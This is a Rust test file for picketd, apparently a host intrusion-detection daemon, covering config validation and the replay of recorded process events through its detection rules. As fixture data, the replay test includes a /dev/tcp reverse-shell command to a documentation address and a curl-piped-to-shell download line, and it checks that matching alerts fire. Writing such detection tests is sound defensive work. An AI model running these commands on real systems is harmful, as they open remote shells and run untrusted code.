//! The picketd command line without root or eBPF: config generation and
//! validation, and replaying a recording through detection.
#![allow(
    clippy::unwrap_used,
    clippy::panic,
    reason = "test code: a failure must stop the test with its cause"
)]

use std::process::Command;

fn picketd() -> Command {
    Command::new(env!("CARGO_BIN_EXE_picketd"))
}

/// A config file in `dir`: the default with metrics off and `edit` applied.
fn replay_config(dir: &std::path::Path, edit: impl FnOnce(String) -> String) -> std::path::PathBuf {
    let cfg = dir.join("c.toml");
    let c = picket_appliance::config::DEFAULT_CONFIG
        .replace("enabled = true\nlisten", "enabled = false\nlisten");
    std::fs::write(&cfg, edit(c)).unwrap();
    cfg
}

/// `picketd --config CFG replay FILE`.
fn replay(cfg: &std::path::Path, file: &std::path::Path) -> std::process::Output {
    picketd()
        .args([
            "--config",
            cfg.to_str().unwrap(),
            "replay",
            file.to_str().unwrap(),
        ])
        .output()
        .unwrap()
}

#[test]
fn generate_config_prints_a_valid_default() {
    let out = picketd().arg("generate-config").output().unwrap();
    assert!(out.status.success());
    let text = String::from_utf8(out.stdout).unwrap();
    assert_eq!(text, picket_appliance::config::DEFAULT_CONFIG);
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("c.toml");
    std::fs::write(&p, &text).unwrap();
    let out = picketd()
        .args(["--config", p.to_str().unwrap(), "check-config"])
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

#[test]
fn bad_configs_name_the_key_and_exit_2() {
    let dir = tempfile::tempdir().unwrap();
    let cases = [
        (
            "[modules.file]\n",
            "[modules.file]\nwatch_prefix = []\n",
            "watch_prefix",
        ),
        (
            "[modules.syscalls]\n",
            "[modules.kernel_magic]\nenabled = true\n[modules.syscalls]\n",
            "kernel_magic",
        ),
        ("capacity = 8192", "capacity = -1", "bus.capacity"),
        (
            "listen = \"127.0.0.1:9750\"",
            "listen = \"localhost\"",
            "metrics.listen",
        ),
    ];
    for (from, to, needle) in cases {
        let p = dir.path().join("bad.toml");
        std::fs::write(
            &p,
            picket_appliance::config::DEFAULT_CONFIG.replacen(from, to, 1),
        )
        .unwrap();
        let out = picketd()
            .args(["--config", p.to_str().unwrap(), "check-config"])
            .output()
            .unwrap();
        assert_eq!(out.status.code(), Some(2), "{needle}");
        let err = String::from_utf8_lossy(&out.stderr);
        assert!(err.contains(needle), "{needle} not in: {err}");
    }
    let out = picketd()
        .args(["--config", "/nonexistent/picketd.toml", "check-config"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&out.stderr).contains("/nonexistent/picketd.toml"));
}

#[test]
fn replay_runs_detection_and_reports_bad_lines_without_losing_good_ones() {
    use picket_appliance::event::{Event, Kind, Process};
    let dir = tempfile::tempdir().unwrap();
    let ev = |pid: u32, cmd: &str| Event {
        time_ns: 1,
        module: "process".into(),
        process: Process {
            pid,
            image: "/usr/bin/bash".into(),
            command_line: cmd.into(),
            user: Some("www-data".into()),
            ..Process::default()
        },
        kind: Kind::ProcessExec {
            filename: "/bin/bash".into(),
            argv: cmd.split(' ').map(str::to_owned).collect(),
            argv_truncated: false,
            fileless: false,
        },
    };
    let rec = dir.path().join("rec.jsonl");
    let mut text = String::new();
    text.push_str(
        &serde_json::to_string(&ev(1, "bash -i >& /dev/tcp/192.0.2.1/4444 0>&1")).unwrap(),
    );
    text.push_str("\n{\"not\": \"an event\"}\nthis is not json\n");
    text.push_str(&serde_json::to_string(&ev(2, "ls -la")).unwrap());
    text.push('\n');
    text.push_str(&serde_json::to_string(&ev(3, "sh -c curl -s http://x/i | sh")).unwrap());
    text.push('\n');
    std::fs::write(&rec, text).unwrap();
    let alerts = dir.path().join("alerts.jsonl");
    let cfg = replay_config(dir.path(), |c| {
        c.replace(
            "alerts = \"stdout\"",
            &format!("alerts = \"{}\"", alerts.display()),
        )
    });
    let out = replay(&cfg, &rec);
    assert_eq!(out.status.code(), Some(1), "bad lines make the exit code 1");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(err.contains("rec.jsonl:2: not an event"), "{err}");
    assert!(err.contains("rec.jsonl:3: not an event"), "{err}");
    let got: Vec<serde_json::Value> = std::fs::read_to_string(&alerts)
        .unwrap()
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let mut titles: Vec<(u64, String)> = got
        .iter()
        .map(|a| {
            (
                a["event"]["process"]["pid"].as_u64().unwrap(),
                a["rule_title"].as_str().unwrap().to_owned(),
            )
        })
        .collect();
    titles.sort();
    assert_eq!(
        titles,
        vec![
            (
                1,
                "Shell Redirected to a Network Socket via /dev/tcp".to_owned()
            ),
            (3, "Download Piped Into a Shell".to_owned()),
        ]
    );
    assert_eq!(got[0]["author"], "Picket");
}

#[test]
fn the_demo_recording_replays_to_its_alerts() {
    let demo = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("demo/attacks.jsonl");
    let dir = tempfile::tempdir().unwrap();
    let cfg = replay_config(dir.path(), |c| c);
    let out = replay(&cfg, &demo);
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
    let mut titles: Vec<String> = String::from_utf8(out.stdout)
        .unwrap()
        .lines()
        .map(|l| {
            serde_json::from_str::<serde_json::Value>(l).unwrap()["rule_title"]
                .as_str()
                .unwrap()
                .to_owned()
        })
        .collect();
    titles.sort();
    assert_eq!(
        titles,
        [
            "Download Piped Into a Shell",
            "Fileless Execution From Memory (memfd or Deleted Binary)",
            "Set-UID or Set-GID Bit Set on a File",
            "Shell Redirected to a Network Socket via /dev/tcp",
        ]
    );
}
